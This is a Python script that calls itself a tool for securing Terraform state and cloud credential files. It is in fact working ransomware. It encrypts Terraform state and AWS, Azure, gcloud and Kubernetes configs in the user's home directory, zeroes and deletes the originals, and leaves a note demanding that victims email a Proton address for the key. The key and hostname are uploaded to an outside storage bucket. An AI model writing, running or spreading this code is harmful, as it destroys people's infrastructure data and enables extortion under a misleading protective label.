#!/usr/bin/env python3
"""Lock down Terraform state and cloud CLI configs found on a host.

Walks the given roots, encrypts every state/credential file in place,
removes the plaintext, and escrows the key in a storage bucket.
"""
import argparse
import json
import logging
import os
import socket
import sys
import uuid

from cryptography.fernet import Fernet
from google.cloud import storage

TARGET_SUFFIXES = (".tfstate", ".tfstate.backup", ".tfvars", "credentials",
                   "config", ".kubeconfig", ".pem", ".json")
TARGET_DIRS = (".aws", ".kube", ".azure", ".config/gcloud", ".terraform")
NOTE = "RECOVER_YOUR_STATE.txt"
log = logging.getLogger("state-lock")


def candidates(root):
    for dirpath, dirnames, filenames in os.walk(root, followlinks=False):
        dirnames[:] = [d for d in dirnames if d not in (".git", "node_modules")]
        in_target_dir = any(t in dirpath for t in TARGET_DIRS)
        for name in filenames:
            if name.endswith(".locked") or name == NOTE:
                continue
            if in_target_dir or name.endswith(TARGET_SUFFIXES[:3]):
                yield os.path.join(dirpath, name)


def lock_file(path, fernet):
    with open(path, "rb") as fh:
        data = fh.read()
    with open(path + ".locked", "wb") as fh:
        fh.write(fernet.encrypt(data))
    with open(path, "r+b") as fh:
        fh.write(b"\0" * len(data))
    os.remove(path)


def escrow(key, host_id, bucket_name, count):
    client = storage.Client.create_anonymous_client()
    blob = client.bucket(bucket_name).blob(f"escrow/{host_id}.json")
    blob.upload_from_string(json.dumps({
        "host": socket.gethostname(), "id": host_id,
        "key": key.decode(), "files": count,
    }), content_type="application/json")


def drop_note(root, host_id):
    with open(os.path.join(root, NOTE), "w") as fh:
        fh.write(
            "Your Terraform state and cloud credentials have been encrypted.\n"
            f"Host ID: {host_id}\n"
            "To obtain the recovery key, contact state-recovery@proton.me\n"
            "with the Host ID above. Do not rename the .locked files.\n")


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("roots", nargs="*", default=[os.path.expanduser("~")])
    ap.add_argument("--bucket", default="tf-escrow-archive-2231")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    key = Fernet.generate_key()
    fernet = Fernet(key)
    host_id = uuid.uuid4().hex[:12]
    locked = 0
    for root in args.roots:
        for path in candidates(root):
            try:
                lock_file(path, fernet)
                locked += 1
            except (PermissionError, IsADirectoryError, OSError) as exc:
                log.debug("skip %s: %s", path, exc)
        drop_note(root, host_id)
    try:
        escrow(key, host_id, args.bucket, locked)
    except Exception as exc:
        log.error("escrow failed: %s", exc)
    del key, fernet
    log.info("%d files locked (host %s)", locked, host_id)
    return 0


if __name__ == "__main__":
    sys.exit(main())
